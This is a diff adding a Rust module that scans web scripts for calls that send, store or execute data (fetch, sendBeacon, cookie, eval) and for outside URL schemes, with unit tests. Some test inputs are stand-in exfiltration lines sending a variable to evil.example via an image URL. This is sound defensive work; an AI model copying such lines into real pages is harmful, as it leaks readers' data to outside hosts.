@@ -1,0 +1,116 @@
+//! Reads what a script could do with a reader's data.
+//!
+//! A reading of words cannot prove what a program does; the policy that every page carries stops
+//! what this misses. What this finds, an author learns before a browser refuses it.
+
+/// Words of a script that call somebody, keep something, or run text as code.
+const WORDS: [&str; 20] = [
+    "fetch",
+    "XMLHttpRequest",
+    "WebSocket",
+    "WebTransport",
+    "EventSource",
+    "sendBeacon",
+    "RTCPeerConnection",
+    "serviceWorker",
+    "SharedWorker",
+    "Worker",
+    "localStorage",
+    "sessionStorage",
+    "indexedDB",
+    "cookie",
+    "cookieStore",
+    "caches",
+    "eval",
+    "Function",
+    "import",
+    "importScripts",
+];
+
+/// The words of the list that a script uses, and addresses of other hosts.
+pub(super) fn calls(script: &str) -> Vec<String> {
+    let code = without_comments(script);
+    let is_part = |c: char| c.is_alphanumeric() || matches!(c, '_' | '$');
+    let mut calls: Vec<String> = code
+        .split(|c| !is_part(c))
+        .filter(|word| WORDS.contains(word))
+        .map(str::to_owned)
+        .collect();
+    for scheme in ["http:", "https:", "ws:", "wss:", "data:", "javascript:"] {
+        if code.contains(scheme) {
+            calls.push(scheme.to_owned());
+        }
+    }
+    if ["'//", "\"//", "`//"].iter().any(|start| code.contains(start)) {
+        calls.push("//".to_owned());
+    }
+    calls
+}
+
+/// The script without its comments; strings are kept whole.
+fn without_comments(script: &str) -> String {
+    let mut code = String::with_capacity(script.len());
+    let mut rest = script.chars().peekable();
+    let mut quote = None;
+    while let Some(c) = rest.next() {
+        match (quote, c) {
+            (Some(open), _) => {
+                code.push(c);
+                if c == '\\' {
+                    code.extend(rest.next());
+                } else if c == open {
+                    quote = None;
+                }
+            }
+            (None, '/') if rest.peek() == Some(&'/') => {
+                rest.by_ref().find(|c| *c == '\n');
+                code.push('\n');
+            }
+            (None, '/') if rest.peek() == Some(&'*') => {
+                rest.next();
+                let mut last = ' ';
+                for c in rest.by_ref() {
+                    if last == '*' && c == '/' {
+                        break;
+                    }
+                    last = c;
+                }
+                code.push(' ');
+            }
+            (None, _) => {
+                if matches!(c, '"' | '\'' | '`') {
+                    quote = Some(c);
+                }
+                code.push(c);
+            }
+        }
+    }
+    code
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_honest_script_passes() {
+        let script = "// never fetch() anything, see https://example.org\nconst way = document.getElementById('exit');\n/* no cookie */ way.addEventListener('click', (event) => { location.replace(way.href); });";
+        assert_eq!(calls(script), Vec::<String>::new());
+    }
+
+    #[test]
+    fn calls_and_storage_are_found() {
+        for script in [
+            "fetch('a.json')",
+            "window['localStorage'].x = 1",
+            "const a = '//evil.example/';",
+            "navigator.sendBeacon(x)",
+            "document.cookie = 'a=b'",
+            "await import('./b.js')",
+            "new Image().src = 'https://evil.example/?' + x",
+            "'it\\'s // no comment'; eval(x)",
+        ] {
+            assert!(!calls(script).is_empty(), "{script}");
+        }
+    }
+}
